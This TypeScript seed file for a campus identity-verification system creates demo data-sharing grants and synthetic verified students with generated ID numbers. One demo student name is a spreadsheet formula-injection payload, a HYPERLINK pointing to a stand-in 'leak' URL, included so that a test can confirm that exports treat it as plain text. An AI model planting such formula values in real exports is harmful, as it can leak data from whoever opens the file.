import 'server-only';
import { randomUUID } from 'node:crypto';
import { maskIdentifier } from '@/lib/identity/mask';
import type { FieldCipher } from '../crypto/field';
import { devAccounts } from '../../dev-oidc/accounts';
import { idNumberAad } from '../identity/record';
import type { Queryable } from './types';

export interface VerifiedFields {
  legalName: string;
  latinName?: string | null;
  sex?: 'male' | 'female';
  birthDate?: string;
  ethnicity?: string;
  idNumber: string;
  phone?: string;
  email?: string;
}

/** The account versions are attributed to when the seed or a benchmark writes them. */
export async function seedActor(tx: Queryable): Promise<string> {
  const [u] = await tx.query<{ id: string }>(
    `insert into public.app_users (issuer, subject, display_name, affiliation) values ('urn:campus-id-verify:seed', 'seed', '系统导入', 'staff')
     on conflict (issuer, subject) do update set display_name = excluded.display_name returning id`,
  );
  return u!.id;
}

/**
 * A roster student whose identity record is verified, written the way the review flow leaves it
 * (a version, then submitted → verified, which emits `student.verified` into the change feed).
 * For the demo seed, tests and the benchmark; runs on the connection's own role.
 */
export async function insertVerifiedStudent(
  tx: Queryable,
  cipher: FieldCipher,
  submittedBy: string,
  studentId: string,
  f: VerifiedFields,
): Promise<{ recordId: string; versionId: string }> {
  const [rec] = await tx.query<{ id: string }>(
    `insert into public.identity_records (student_id) values ($1)
     on conflict (student_id) do update set student_id = excluded.student_id returning id`,
    [studentId],
  );
  const versionId = await insertVerifiedVersion(tx, cipher, submittedBy, rec!.id, studentId, f);
  return { recordId: rec!.id, versionId };
}

/** A new verified version of an existing record (like an approved correction): emits student.changed. */
export async function insertVerifiedVersion(
  tx: Queryable,
  cipher: FieldCipher,
  submittedBy: string,
  recordId: string,
  studentId: string,
  f: VerifiedFields,
): Promise<string> {
  const versionId = randomUUID();
  await tx.query(
    `insert into public.identity_versions (id, record_id, student_id, seq, idempotency_key, source, legal_name, latin_name, sex,
       birth_date, ethnicity, id_type, id_number_enc, id_number_bidx, id_number_mask, phone, email, submitted_by)
     select $1, $2, $3, coalesce(max(seq), 0) + 1, gen_random_uuid(), 'registrar', $4, $5, $6, $7, $8, 'cn_resident', $9, $10, $11, $12, $13, $14
     from public.identity_versions where record_id = $2`,
    [
      versionId,
      recordId,
      studentId,
      f.legalName,
      f.latinName ?? null,
      f.sex ?? 'female',
      f.birthDate ?? '2004-05-06',
      f.ethnicity ?? '01',
      cipher.encrypt(f.idNumber, idNumberAad.version(versionId)),
      cipher.blindIndex(f.idNumber, 'id_number'),
      maskIdentifier(f.idNumber),
      f.phone ?? '13800000000',
      f.email ?? 'student@stu.example.edu.cn',
      submittedBy,
    ],
  );
  const [r] = await tx.query<{ state: string }>('select state from public.identity_records where id = $1', [recordId]);
  if (r!.state !== 'submitted' && r!.state !== 'in_review') {
    await tx.query(`update public.identity_records set state = 'submitted', current_version_id = $2, submitted_at = now() where id = $1`, [
      recordId,
      versionId,
    ]);
  } else {
    await tx.query('update public.identity_records set current_version_id = $2 where id = $1', [recordId, versionId]);
  }
  await tx.query(`update public.identity_records set state = 'verified', verified_version_id = $2 where id = $1`, [recordId, versionId]);
  return versionId;
}

/** Demo grants (the examples) and verified roster students, so the portal and API show data. */
export const DEMO_GRANTS: Record<string, { fields: string[]; full: boolean }> = {
  finance: { fields: ['student_number', 'name', 'department', 'id_number'], full: true },
  logistics: { fields: ['student_number', 'name', 'sex', 'phone'], full: false },
  academic_affairs: { fields: ['student_number', 'name', 'department', 'cohort', 'email'], full: false },
};

/**
 * The first verified demo student's name looks like a spreadsheet formula, as a hostile value
 * from an import could: exports must open it as plain text (tests/e2e/office.spec.ts checks that).
 */
export const FORMULA_DEMO_NAME = '=HYPERLINK("https://example.invalid/leak","演示公式名")';

export async function seedSharingDemo(tx: Queryable, cipher: FieldCipher): Promise<void> {
  for (const [code, g] of Object.entries(DEMO_GRANTS)) {
    await tx.query(
      `insert into public.office_grants (office_id, fields, id_number_full) select id, $2, $3 from public.offices where code = $1
       on conflict (office_id) do nothing`,
      [code, g.fields, g.full],
    );
  }
  const by = await seedActor(tx);
  // Every third roster filler student is verified; deterministic so demos look the same.
  const students = await tx.query<{ id: string; name: string; student_number: string }>(
    `select s.id, s.name, s.student_number from public.students s
     where s.user_id is null and not exists (select 1 from public.identity_records r where r.student_id = s.id)
       and s.student_number <> all($1::text[])
     order by s.student_number`,
    // The demo accounts' own students are left to sign in and submit themselves (and the e2e
    // journeys start from there).
    [devAccounts().flatMap((a) => (a.studentNumber ? [a.studentNumber] : []))],
  );
  let i = 0;
  for (const s of students) {
    if (i++ % 3 !== 0) continue;
    const n = Number(s.student_number.slice(-4));
    const birth = `${2003 + (n % 4)}-${String(1 + (n % 12)).padStart(2, '0')}-${String(1 + (n % 27)).padStart(2, '0')}`;
    // The sequence digits come from the running index, so no two demo students share an ID number
    // (student numbers of different schools end in the same digits); its parity gives the sex.
    const sex = i % 2 ? 'male' : 'female';
    await insertVerifiedStudent(tx, cipher, by, s.id, {
      legalName: i === 1 ? FORMULA_DEMO_NAME : s.name,
      sex,
      birthDate: birth,
      idNumber: demoIdNumber(birth, i),
      phone: `139${String(10_000_000 + n * 7919).slice(-8)}`,
      email: `${s.student_number}@stu.example.edu.cn`,
    });
  }
}

function demoIdNumber(birth: string, index: number): string {
  const seq = String(index % 1000).padStart(3, '0');
  const first17 = `110105${birth.replace(/-/g, '')}${seq}`;
  const w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  const sum = [...first17].reduce((a, d, k) => a + Number(d) * w[k]!, 0);
  return first17 + '10X98765432'[sum % 11]!;
}
